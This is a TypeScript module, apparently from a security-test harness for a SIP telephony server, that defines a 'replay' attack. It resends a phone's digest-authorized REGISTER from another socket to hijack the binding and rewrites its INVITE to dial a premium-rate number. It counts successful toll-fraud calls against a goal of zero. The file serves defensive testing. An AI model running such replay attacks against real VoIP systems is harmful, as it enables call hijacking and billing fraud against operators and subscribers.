import { token, type SipRequest } from "../peers/sip-message";
import type { UserAgent } from "../peers/user-agent";
import { above, type Attack } from "./attack";
import { costly, openStolen, reachedCarrier, withStolen } from "./insider";

/** The request of that method which the phone sent with its digest. */
function authorized(phone: UserAgent, method: string): SipRequest {
  const found = phone.sent.find((one) => one.method === method && one.headers?.Authorization !== undefined);
  if (found === undefined) throw new Error(`the phone's ${method} was not challenged, so there is nothing to repeat`);
  return found;
}

/** Somebody on the path repeats a phone's own authorized requests: from elsewhere, and with another number to call. */
export const replay: Attack = {
  name: "replay",
  what: "repeats a phone's authorized REGISTER from elsewhere, and its INVITE with a premium number in it",
  measures: "premium calls and foreign bindings",
  goal: "0",
  weak: ["tutorial22"],
  run: (target) =>
    withStolen(target, 1, async (phone) => {
      await phone.hangUp(await phone.call("0312345670"));
      const [register, invite] = [authorized(phone, "REGISTER"), authorized(phone, "INVITE")];
      const [, thief] = target.stolen;
      if (thief === undefined) throw new Error("there is no second stolen account");
      const elsewhere = await openStolen(target, thief, 6);
      try {
        const anew = () => ({ branch: token(), callId: token() });
        const via = `${elsewhere.socket.address}:${elsewhere.socket.port}`;
        const headers = { ...register.headers, Contact: elsewhere.contact };
        const bound = await elsewhere.resend({ ...register, ...anew(), via, headers });
        const redirected = (number: string) => {
          const uri = `sip:${number}@${target.address}`;
          return { ...invite, ...anew(), uri, to: `<${uri}>` };
        };
        const premium = await reachedCarrier(target, async () => {
          await elsewhere.hangUp(await elsewhere.resend({ ...redirected(costly.premium), via }));
          await phone.hangUp(await phone.resend(redirected(costly.premium)));
        });
        const allowed = await phone.resend(redirected("0312345671"));
        await phone.hangUp(allowed);
        const note = `from the phone's own port, to another number it may call: ${allowed.status}`;
        return above(0, premium.length + Number(bound.status === 200), note);
      } finally {
        await elsewhere.close();
      }
    }),
};
